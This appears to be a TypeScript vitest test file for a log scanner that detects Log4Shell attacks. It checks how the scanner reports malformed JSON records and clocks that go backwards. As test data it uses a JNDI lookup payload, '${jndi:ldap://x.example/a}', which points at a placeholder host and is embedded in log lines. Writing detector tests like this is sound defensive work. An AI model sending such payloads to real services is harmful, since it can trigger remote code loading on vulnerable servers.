import { describe, expect, test } from 'vitest'
import { huntDoors, huntedAround } from '../../test/kit/hunting.ts'
import type { Gap } from '../core/index.ts'
import { RecentlyRead } from './recently-read.ts'
import { SourceHunt } from './source-hunt.ts'

const attack = '${jndi:ldap://x.example/a}'

/** What is told of a log beside its attacks. */
function oddIn(log: string): {
  readonly found: number
  readonly gaps: readonly Gap[]
  readonly notes: readonly string[]
} {
  let found = 0
  const gaps: Gap[] = []
  const notes: string[] = []
  const sink = {
    finding() {
      found++
    },
    gap: (gap: Gap) => void gaps.push(gap),
    note: (text: string) => void notes.push(text),
  }
  const source = { source: 'a.log', relative: 'a.log', around: huntedAround }
  const hunt = new SourceHunt(huntDoors, sink, source, new RecentlyRead())
  const bytes = new TextEncoder().encode(log)
  hunt.room().set(bytes)
  hunt.take(bytes.length)
  hunt.read('ended')
  hunt.close()
  return { found, gaps, notes }
}

describe('JSON that is none', () => {
  test('is read as text, the attacks around it are found, and the first is told with its place', () => {
    const whole = `{"ip":"203.0.113.7","ua":"${attack}"}\n`
    const { found, gaps } = oddIn(
      `${whole}{"ip":"203.0.113.7","ua":"${attack}\n${whole}{"ua":"${attack}" "ip"}\n${whole}`,
    )

    expect(found).toBe(5)
    expect(gaps).toEqual([
      {
        at: 'a.log:2',
        because: 'malformed',
        detail:
          'a record of 52 characters begins like JSON and is none: it was read as text, so when it was written and who sent it is not known',
      },
      { at: 'a.log', because: 'malformed', detail: '1 more such records that begin like JSON and are none' },
    ])
  })

  test.each([
    ['JSON', `{"ua":"${attack}"}\n`],
    ['text with a brace in it', `user {${attack}} logged in\n`],
    ['a brace that begins no member', `{${attack}}\n`],
    ['broken JSON in which nothing was found', '{"ua":"x\n'],
    ['an object over several lines', `{\n  "ua": "${attack}"\n}\n`],
    [
      'a part of a container that a runtime cut',
      `{"log":"{\\"ua\\":\\"${attack}","stream":"stdout","time":"2021-12-10T12:43:11Z"}\n`,
    ],
  ])('%s is not told', (_case, log) => {
    expect(oddIn(log).gaps).toEqual([])
  })
})

describe('a clock that goes back', () => {
  const at = (time: string): string =>
    `203.0.113.7 - - [10/Dec/2021:${time} +0000] "GET / HTTP/1.1" 200 1 "-" "${attack}"\n`

  test('is told once, with its place', () => {
    const { found, notes } = oddIn(at('12:00:00') + at('09:00:00') + at('12:00:00') + at('09:00:00'))

    expect(found).toBe(4)
    expect(notes).toEqual([
      `the clock of a.log goes back by 3 h at byte ${at('12:00:00').length}: --since, --until and what came of attacks go by what records say`,
    ])
  })

  test('by as much as a request may take is not told', () => {
    expect(oddIn(at('12:00:00') + at('11:30:00') + at('12:30:00')).notes).toEqual([])
  })
})
